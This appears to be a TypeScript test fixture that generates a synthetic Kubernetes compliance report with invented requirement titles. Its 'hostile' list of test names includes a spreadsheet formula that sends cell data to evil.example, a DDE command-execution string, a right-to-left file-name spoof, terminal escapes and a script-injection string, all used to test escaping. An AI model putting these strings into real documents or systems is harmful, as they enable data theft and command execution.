/** The catalog of the hand-made report: 30 controls, 274 requirements of three frameworks, and names that misbehave. */
import { createHash } from 'node:crypto';
import type {
  Assessment,
  Control,
  ControlResult,
  Framework,
  ListingKind,
  Outcome,
  Requirement,
  Severity,
  StoredListing,
} from '../../src/model/index.ts';

/** Names that try to leave their cell, their line, their language or their format. */
export const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+cmd|/c calc!A0',
  minus: '-2+3',
  at: '@SUM(1+1)',
  override: 'user\u202egnp.exe',
  escape: 'red\u001b[31mtext\u0007',
  hidden: 'pay\u00adload\u{e0041}',
  scripts: '漢字 العربية עברית 🙂 Ünïcödé Ελληνικά кластер',
  zalgo: `z\u0301\u0302\u0303\u0304\u0305\u0306\u0307a`,
  markup: '<script>alert(1)</script> & "quotes" ]]>',
  long: `system:serviceaccount:${'very-long-team-name-'.repeat(6)}production:${'deployer-'.repeat(12)}x`,
  unbroken: 'x'.repeat(253),
} as const;

export const hex = (seed: number): string => createHash('sha256').update(String(seed)).digest('hex');
export const uuid = (seed: number): string => hex(seed).replace(/^(.{8})(.{4})(.{4})(.{4})(.{12}).*$/, '$1-$2-$3-$4-$5');

export const controlTable: readonly (readonly [string, string, Severity, string, Outcome, number, readonly ListingKind[]])[] = [
  [
    'RBAC-001',
    'cluster-admin is held only by break-glass subjects',
    'critical',
    'grants',
    'fail',
    2,
    ['k8s.rbac/clusterrolebindings', 'k8s.rbac/clusterroles'],
  ],
  ['RBAC-002', 'No role outside the system roles uses wildcards', 'high', 'roles', 'fail', 34, ['k8s.rbac/clusterroles', 'k8s.rbac/roles']],
  [
    'RBAC-003',
    'Only named subjects read Secrets',
    'high',
    'grants',
    'fail',
    5,
    ['k8s.rbac/clusterrolebindings', 'k8s.rbac/rolebindings', 'k8s.rbac/roles', 'k8s.rbac/clusterroles'],
  ],
  ['RBAC-004', 'Nobody escalates, binds or impersonates without approval', 'high', 'grants', 'pass', 0, ['k8s.rbac/clusterrolebindings']],
  ['RBAC-005', 'Pods are created by deployment systems only', 'medium', 'grants', 'fail', 1, ['k8s.rbac/rolebindings']],
  ['RBAC-006', 'Anonymous users hold no right beyond discovery', 'critical', 'grants', 'pass', 0, ['k8s.rbac/clusterrolebindings']],
  [
    'RBAC-007',
    'Default service accounts hold no role',
    'medium',
    'grants',
    'pass',
    0,
    ['k8s.rbac/rolebindings', 'k8s.core/serviceaccounts'],
  ],
  ['RBAC-008', 'Every role reference leads to a role', 'low', 'grants', 'fail', 1, ['k8s.rbac/rolebindings']],
  ['AUD-001', 'Audit logging is declared', 'high', 'apiServers', 'pass', 0, ['k8s.apiserver/flags']],
  ['AUD-002', 'The audit log grew between two runs', 'high', 'apiServers', 'notAssessed', 0, ['k8s.apiserver/metrics']],
  ['AUD-003', 'The audit backend reports no error', 'medium', 'apiServers', 'notAssessed', 0, ['k8s.apiserver/metrics']],
  ['AUD-004', 'Audit files are kept for thirty days', 'medium', 'apiServers', 'fail', 3, ['k8s.apiserver/flags']],
  ['AUD-005', 'Secret reads are logged without bodies', 'high', 'auditRules', 'notAssessed', 0, []],
  ['ENC-001', 'Encryption of Secrets is configured', 'critical', 'apiServers', 'pass', 0, ['k8s.apiserver/flags']],
  ['ENC-002', 'The first encryption provider is strong', 'critical', 'encryptionProviders', 'notAssessed', 0, []],
  ['ENC-003', 'New Secrets are written encrypted', 'high', 'apiServers', 'notAssessed', 0, ['k8s.apiserver/metrics']],
  ['ENC-004', 'Stored objects are encrypted', 'high', 'storage', 'providerResponsibility', 0, []],
  ['SEC-001', 'No container takes a Secret from its environment', 'medium', 'containers', 'fail', 12, ['k8s.core/pods']],
  ['SEC-002', 'No literal holds a credential', 'critical', 'containers', 'fail', 1, ['k8s.core/pods']],
  ['SEC-003', 'Service account tokens are mounted only where used', 'low', 'pods', 'pass', 0, ['k8s.core/pods']],
  ['SEC-004', 'No legacy service account token exists', 'medium', 'secrets', 'notAssessed', 0, []],
  [
    'POD-001',
    'No privileged container outside the system namespaces',
    'critical',
    'containers',
    'fail',
    2,
    ['k8s.core/pods', 'k8s.core/namespaces'],
  ],
  ['POD-002', 'No pod shares the host network, PID or IPC namespace', 'high', 'pods', 'pass', 0, ['k8s.core/pods']],
  [
    'NET-001',
    'Each namespace denies ingress by default',
    'medium',
    'namespaces',
    'fail',
    9,
    ['k8s.core/namespaces', 'k8s.network/networkpolicies'],
  ],
  ['API-001', 'The API server does not allow anonymous requests', 'high', 'apiServers', 'pass', 0, ['k8s.apiserver/flags']],
  ['API-002', 'Authorization is by Node and RBAC', 'critical', 'apiServers', 'pass', 0, ['k8s.apiserver/flags']],
  ['NODE-001', 'Kubelets serve no anonymous request', 'high', 'kubelets', 'manual', 0, []],
  ['NODE-002', 'Kubelet versions are supported', 'low', 'nodes', 'pass', 0, ['k8s.core/nodes']],
  ['RUN-001', 'Windows nodes follow the same policy', 'info', 'nodes', 'notApplicable', 0, ['k8s.core/nodes']],
  [
    'RUN-002',
    "The collector holds only the rights it declares, and the cluster's bootstrap defaults",
    'medium',
    'rights',
    'pass',
    0,
    ['k8s.core/namespaces'],
  ],
];

export const items = Object.values(hostile);

export function control([id, title, severity, population]: (typeof controlTable)[number]): Control {
  const wide = id === 'RBAC-003';
  return {
    id,
    title,
    severity,
    population,
    why: `${title}: otherwise one stolen credential is enough to read every Secret, to change every policy and to erase the traces of both.`,
    ...(severity === 'info' ? {} : { where: `item.role == "ClusterRole/cluster-admin" && !item.subject.startsWith("Group/system:")` }),
    expect: wide
      ? 'item.rules.all(r, !(r.apiGroups.exists(g, g in ["", "*"]) && r.resources.exists(x, x in ["secrets", "*"]))) || item.subject in params.allowed'
      : 'item.subject in params.allowed',
    message: '{subject} holds {role}',
    params: { allowed: { type: 'list', default: ['Group/system:masters'], doc: 'Subjects that may hold it' } },
    procedure:
      'List the bindings to the role. For each subject, ask its owner for the approval, and compare the date with the creation of the binding.',
    remediation: 'Delete the binding, or bind the subject to a role that names what it needs.',
    examples: [],
  };
}

export function result(
  [id, title, severity, name, outcome, failing, evidence]: (typeof controlTable)[number],
  listings: readonly StoredListing[],
): ControlResult {
  const size = 41 + failing * 3;
  return {
    id,
    title,
    severity,
    outcome,
    labels: {},
    population: { name, size: evidence.length === 0 ? 0 : size, tested: evidence.length === 0 ? 0 : size - 3 },
    evidence: listings
      .filter(({ kind }) => evidence.includes(kind))
      .map((listing) => ({ kind: listing.kind, id: listing.id, items: listing.items, complete: listing.gaps.length === 0 })),
    findings: Array.from({ length: failing }, (_, index) => {
      const item = items[index % items.length] ?? '';
      return {
        item:
          index < items.length
            ? `User/${item}|ClusterRoleBinding/friday`
            : `ServiceAccount/team-${index}/deployer|RoleBinding/edit-${index}`,
        resource: {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          namespace: '',
          name: index < items.length ? item : `edit-${index}`,
          uid: uuid(index),
        },
        message: `${index < items.length ? item : `ServiceAccount/team-${index}/deployer`} holds cluster-admin cluster-wide, through ClusterRoleBinding/friday`,
        evidence: [hex(index)],
        exception: id === 'RBAC-008' ? 'EXC-2026-014' : null,
      };
    }),
    gaps: outcome === 'notAssessed' ? gapsOf(id) : [],
  };
}

function gapsOf(id: string): ControlResult['gaps'] {
  if (id === 'AUD-005')
    return [
      {
        reason: 'absent',
        what: 'audit policy file',
        closedBy: 'kubevidence collect --files DIR with the audit policy, or --audit-policy FILE',
      },
    ];
  if (id === 'ENC-002')
    return [
      { reason: 'absent', what: 'EncryptionConfiguration', closedBy: 'kubevidence collect --files DIR with the encryption configuration' },
    ];
  if (id === 'SEC-004')
    return [{ reason: 'forbidden', what: 'secrets', detail: `secrets is forbidden: User "${hostile.override}" cannot list resource` }];
  return [
    {
      reason: 'forbidden',
      what: '/metrics of replica cp-3',
      detail: 'HTTP 403',
      closedBy: 'kubevidence manifests rbac | kubectl apply -f -',
    },
  ];
}

const words = [
  'access',
  'logging',
  'encryption',
  'review',
  'configuration',
  'authority',
  'integrity',
  'transmission',
  'authentication',
  'recovery',
  'monitoring',
  'separation',
];
const phrase = (seed: number): string => {
  const word = (offset: number): string => words[(seed * 7 + offset * 5) % words.length] ?? '';
  return `${word(0)[0]?.toUpperCase()}${word(0).slice(1)} and ${word(1)} of ${['the control plane', 'workloads', 'people who operate it', 'stored data', 'third parties that hold a share of it'][seed % 5]}`;
};

const lawOutcomes: readonly Outcome[] = ['pass', 'fail', 'notAssessed', 'manual', 'manual', 'manual'];

interface FrameworkShape {
  readonly id: string;
  readonly title: string;
  readonly kind: 'benchmark' | 'law';
  readonly version: string;
  readonly sections: readonly (readonly [string, string, number])[];
  readonly ids: (section: string, index: number) => string;
}

export const shapes: readonly FrameworkShape[] = [
  {
    id: 'cis-kubernetes',
    title: 'CIS Kubernetes Benchmark',
    kind: 'benchmark',
    version: '2.0.1',
    sections: [
      ['1.1', 'Control-plane files', 21],
      ['1.2', 'API server', 29],
      ['1.3', 'Controller manager', 7],
      ['1.4', 'Scheduler', 2],
      ['2', 'etcd', 7],
      ['3.1', 'User authentication', 3],
      ['3.2', 'Logging', 2],
      ['4.1', 'Kubelet files', 10],
      ['4.2', 'Kubelet', 13],
      ['4.3', 'kube-proxy', 1],
      ['5.1', 'RBAC and service accounts', 13],
      ['5.2', 'Pod security', 12],
      ['5.3', 'Network policies', 2],
      ['5.4', 'Secrets', 2],
      ['5.5', 'Admission', 1],
      ['5.6', 'General policies', 6],
    ],
    ids: (section, index) => `${section}.${index + 1}`,
  },
  {
    id: 'hipaa-security-rule',
    title: 'HIPAA Security Rule',
    kind: 'law',
    version: '45 CFR 164 Subpart C (2013)',
    sections: [
      ['administrative', 'Administrative safeguards', 32],
      ['physical', 'Physical safeguards', 12],
      ['technical', 'Technical safeguards', 14],
      ['organizational', 'Organizational requirements', 8],
      ['documentation', 'Policies and documentation', 5],
    ],
    ids: (section, index) =>
      `164.3${String(['administrative', 'physical', 'technical', 'organizational', 'documentation'].indexOf(section) * 2 + 8).padStart(2, '0')}(a)(${index + 1})(ii)(${String.fromCharCode(65 + (index % 26))})`,
  },
  {
    id: 'gdpr',
    title: 'General Data Protection Regulation (EU) 2016/679',
    kind: 'law',
    version: '2016/679',
    sections: [
      ['principles', 'Principles', 12],
      ['rights', 'Rights of the data subject', 20],
      ['controller', 'Controller and processor', 28],
      ['transfers', 'Transfers and remedies', 12],
    ],
    ids: (section, index) =>
      `${['principles', 'rights', 'controller', 'transfers'].indexOf(section) * 20 + 5 + Math.floor(index / 3)}(${(index % 3) + 1})`,
  },
];

export function frameworkOf(shape: FrameworkShape): Framework {
  const requirements = shape.sections.flatMap(([section, , count], place) =>
    Array.from({ length: count }, (_, index): Requirement => {
      const seed = place * 37 + index;
      const law = shape.kind === 'law';
      const linked = seed % 3 === 0 ? [] : controlTable.slice(seed % 26, (seed % 26) + 1 + (seed % 4));
      return {
        id: shape.ids(section, index),
        title: phrase(seed),
        section,
        ...(law
          ? { obligation: seed % 2 === 0 ? ('required' as const) : ('addressable' as const) }
          : {
              level: seed % 4 === 0 ? (2 as const) : (1 as const),
              assessment: seed % 3 === 0 ? ('manual' as const) : ('automated' as const),
            }),
        controls: Array.from(linked, ([id], link) => ({
          id,
          strength: law && link > 1 ? ('supporting' as const) : ('partial' as const),
          ...(law ? {} : { covers: link === 0 ? ('exact' as const) : ('part' as const) }),
        })),
      };
    }),
  );
  const { id, title, kind, version } = shape;
  return {
    id,
    title,
    kind,
    version,
    source: 'https://example.org/where/the/authentic/text/is/published',
    notice: 'Numbers refer to the framework; titles are our own words. Not affiliated with or endorsed by its publisher. Not legal advice.',
    ...(kind === 'benchmark' ? { kubernetesVersions: ['1.34', '1.35'] } : {}),
    sections: shape.sections.map(([section, sectionTitle]) => ({ id: section, title: sectionTitle })),
    requirements,
  };
}

export function requirementResults(framework: Framework, results: readonly ControlResult[]): Assessment['requirements'] {
  return framework.requirements.map((requirement, index) => {
    const outcomes = requirement.controls.map(({ id }) => results.find((control) => control.id === id)?.outcome ?? 'notAssessed');
    const order: readonly Outcome[] = ['fail', 'notAssessed', 'manual', 'providerResponsibility', 'pass', 'notApplicable'];
    const worst =
      order.find((outcome) => outcomes.includes(outcome)) ?? (framework.kind === 'law' ? (lawOutcomes[3] ?? 'manual') : 'manual');
    return {
      framework: framework.id,
      version: framework.version,
      id: requirement.id,
      title: requirement.title,
      outcome: worst,
      controls: requirement.controls.map(({ id, strength, covers }) => ({ id, strength, covers })),
      counts: Object.fromEntries(
        order.map((outcome) => [outcome, outcomes.filter((candidate) => candidate === outcome).length]).filter(([, count]) => count !== 0),
      ) as Record<string, number>,
      needs:
        worst === 'manual'
          ? ([
              'access review minutes, signed',
              'contract with the processor, and its annex on security',
              'risk analysis and its date',
              'training records',
            ][index % 4] ?? '')
          : null,
    };
  });
}
